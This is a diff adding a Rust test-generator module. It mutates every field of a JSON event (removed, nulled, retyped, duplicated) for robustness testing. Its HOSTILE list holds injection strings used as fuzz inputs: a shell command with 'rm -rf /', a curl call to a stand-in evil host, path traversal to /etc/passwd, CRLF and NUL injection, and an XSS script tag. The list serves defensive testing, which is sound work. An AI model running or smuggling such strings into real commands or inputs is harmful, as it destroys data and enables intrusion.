@@ -1,0 +1,149 @@
+//! Generators for tests, here and in other crates (feature `testing`).
+
+use serde_json::{Map, Value, json};
+
+/// Every way in which one field of `event` can be missing or wrong (`cases.md` E04): for each value inside it,
+/// removed, null, of each other JSON type, emptied, and, for texts, hostile. The label says where and what, for
+/// example `/detail/state/value: null`.
+///
+/// Texts that hold JSON themselves (SNS messages) are mutated inside too.
+pub fn mutations(event: &Value) -> impl Iterator<Item = (String, Value)> {
+    let mut all = Vec::new();
+    visit(event, "", &mut |label, value| all.push((label, value)));
+    all.into_iter()
+}
+
+/// Texts that must never get into a path, a selector, a key or a line.
+pub const HOSTILE: [&str; 8] = [
+    "x; rm -rf /",
+    "$(curl http://evil.example)",
+    "../../etc/passwd",
+    "%2e%2e/%2e%2e/",
+    "a\0b",
+    "a\r\nb",
+    "\u{202e}txt.exe",
+    "<script>alert(1)</script>",
+];
+
+/// Reports each mutation of `value` to `report`, which gets it as it looks with everything around it.
+fn visit(value: &Value, path: &str, report: &mut dyn FnMut(String, Value)) {
+    for (what, mutant) in replacements(value) {
+        report(format!("{path}: {what}"), mutant);
+    }
+    match value {
+        Value::Object(members) => {
+            for (key, member) in members {
+                let mut without = members.clone();
+                without.remove(key);
+                report(format!("{path}/{key}: removed"), Value::Object(without));
+                visit(member, &format!("{path}/{key}"), &mut |label, mutant| {
+                    report(label, with(members, key, mutant));
+                });
+            }
+        }
+        Value::Array(elements) => {
+            for (index, element) in elements.iter().enumerate() {
+                let put = |mutant: Option<Value>| {
+                    let mut changed = elements.clone();
+                    changed.splice(index..=index, mutant);
+                    Value::Array(changed)
+                };
+                report(format!("{path}/{index}: removed"), put(None));
+                report(
+                    format!("{path}/{index}: twice"),
+                    put(None).as_array().map_or(Value::Null, |rest| {
+                        let mut twice = rest.clone();
+                        twice.extend([element.clone(), element.clone()]);
+                        Value::Array(twice)
+                    }),
+                );
+                visit(element, &format!("{path}/{index}"), &mut |label, mutant| {
+                    report(label, put(Some(mutant)));
+                });
+            }
+        }
+        Value::String(text) if text.starts_with('{') => {
+            if let Ok(inner) = serde_json::from_str::<Value>(text) {
+                visit(&inner, &format!("{path}/(json)"), &mut |label, mutant| {
+                    report(label, Value::String(mutant.to_string()));
+                });
+            }
+        }
+        _ => {}
+    }
+}
+
+fn with(members: &Map<String, Value>, key: &str, value: Value) -> Value {
+    let mut changed = members.clone();
+    changed.insert(key.to_owned(), value);
+    Value::Object(changed)
+}
+
+fn replacements(value: &Value) -> Vec<(String, Value)> {
+    let others = [
+        ("null", Value::Null),
+        ("true", json!(true)),
+        ("false", json!(false)),
+        ("a number", json!(7)),
+        ("a huge number", json!(1e300)),
+        ("a negative number", json!(-1)),
+        ("an empty text", json!("")),
+        ("a text", json!("text")),
+        ("an empty list", json!([])),
+        ("a list", json!([value])),
+        ("an empty object", json!({})),
+        ("an object", json!({"value": value})),
+    ];
+    let mut all: Vec<(String, Value)> = others
+        .into_iter()
+        .filter(|(_, other)| other != value)
+        .map(|(what, other)| (what.to_owned(), other))
+        .collect();
+    if value.is_string() {
+        all.extend(
+            HOSTILE
+                .iter()
+                .map(|text| (format!("the text {text:?}"), json!(text))),
+        );
+        all.push(("a text of 300 characters".to_owned(), json!("a".repeat(300))));
+    }
+    if let Some(text) = value.as_str() {
+        all.push(("upper case".to_owned(), json!(text.to_uppercase())));
+        all.push(("with a blank in front".to_owned(), json!(format!(" {text}"))));
+    }
+    all
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_field_is_removed_nulled_and_retyped_also_inside_json_in_a_text() {
+        let event = json!({"a": {"b": [1, "x"]}, "m": "{\"n\":true}"});
+        let all: Vec<(String, Value)> = mutations(&event).collect();
+        let find = |label: &str| {
+            all.iter()
+                .find(|(known, _)| known == label)
+                .map(|(_, value)| value.to_string())
+        };
+        assert_eq!(
+            find("/a/b/1: removed").as_deref(),
+            Some(r#"{"a":{"b":[1]},"m":"{\"n\":true}"}"#)
+        );
+        assert_eq!(
+            find("/a: null").as_deref(),
+            Some(r#"{"a":null,"m":"{\"n\":true}"}"#)
+        );
+        assert_eq!(
+            find("/m/(json)/n: removed").as_deref(),
+            Some(r#"{"a":{"b":[1,"x"]},"m":"{}"}"#)
+        );
+        assert!(find("/a/b/0: a text").is_some() && find("/a/b/1: upper case").is_some());
+        assert!(all.iter().all(|(_, mutant)| *mutant != event));
+        let mut labels: Vec<&String> = all.iter().map(|(label, _)| label).collect();
+        labels.sort();
+        labels.dedup();
+        assert_eq!(labels.len(), all.len(), "labels are unique");
+    }
+}
